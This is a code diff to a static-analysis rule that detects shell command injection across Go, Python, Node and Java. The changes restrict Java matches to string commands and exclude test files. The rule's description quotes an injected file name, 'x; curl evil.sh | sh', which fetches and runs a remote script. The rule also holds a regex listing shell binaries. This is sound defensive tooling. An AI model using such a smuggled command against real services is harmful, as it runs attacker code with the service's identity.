@@ -1,7 +1,7 @@
 import type { Node } from 'web-tree-sitter';
 import { defineRule, type RuleMatch, type RuleContext } from '../../engine/define-rule';
 import { stringShape } from '../lib/dynamic-string';
-import { isFileConstantString, stringContent } from '../lib/security-context';
+import { inProductionCode, isFileConstantString, stringContent } from '../lib/security-context';
 import { namedArgs } from '../lib/syntax';
 
 const SHELLS = /^(\/(usr\/)?bin\/)?(sh|bash|zsh|dash|ksh|cmd(\.exe)?|powershell(\.exe)?|pwsh)$/;
@@ -34,7 +34,10 @@ function shellCommand(m: RuleMatch, ctx: RuleContext): Node | undefined {
   if (ctx.language === 'java') {
     const receiver = m.get('pkg')?.text ?? '';
     const runtime = /getRuntime\(\)$/.test(receiver) || (/^\w+$/.test(receiver) && new RegExp(`\\bRuntime\\s+${receiver}\\b`).test(ctx.text));
-    return runtime && cmd.type !== 'array_creation_expression' ? cmd : undefined;
+    // exec(String[]) runs no shell and splits nothing: only a string command counts.
+    const stringCommand = cmd.type === 'binary_expression' || /^String\.format\(/.test(cmd.text)
+      || (cmd.type === 'identifier' && new RegExp(`\\bString\\s+${cmd.text}\\b`).test(ctx.text));
+    return runtime && stringCommand ? cmd : undefined;
   }
   // JS: child_process exec/execSync, not RegExp#exec or a database's exec.
   const callee = m.node.childForFieldName('function');
@@ -76,6 +79,7 @@ export default defineRule({
         (#eq? @fn "ProcessBuilder")) @match`,
   },
   filter: (m, ctx) => {
+    if (!inProductionCode(ctx)) return false;
     const cmd = shellCommand(m, ctx);
     return !!cmd && stringShape(cmd).dynamic && !QUOTED.test(cmd.text) && !(cmd.type === 'identifier' && isFileConstantString(cmd.text, ctx.text));
   },
@@ -86,7 +90,8 @@ A command line is assembled from data (concatenation, template literals, f-strin
 a parameter) and run through a shell: Go \`exec.Command("sh", "-c", cmd)\`, Python \`subprocess.run(cmd, shell=True)\`,
 \`os.system\`, \`os.popen\`, Node \`child_process.exec\`/\`execSync\`, Java \`Runtime.getRuntime().exec(cmd)\` and
 \`new ProcessBuilder("sh", "-c", cmd)\`. Commands that are constants, and values passed through \`shlex.quote\` or a
-shell-quote helper, are not flagged.
+shell-quote helper, are not flagged. Test files are not checked: tests stub
+credentials, reproduce protocols and trust self-signed certificates on purpose.
 
 **Why it matters in production.** The shell interprets \`;\`, \`|\`, \`&&\`, \`$(...)\`, backticks and globbing in the
 data: a file name such as \`x; curl evil.sh | sh\` runs the attacker's commands with the service's identity, its
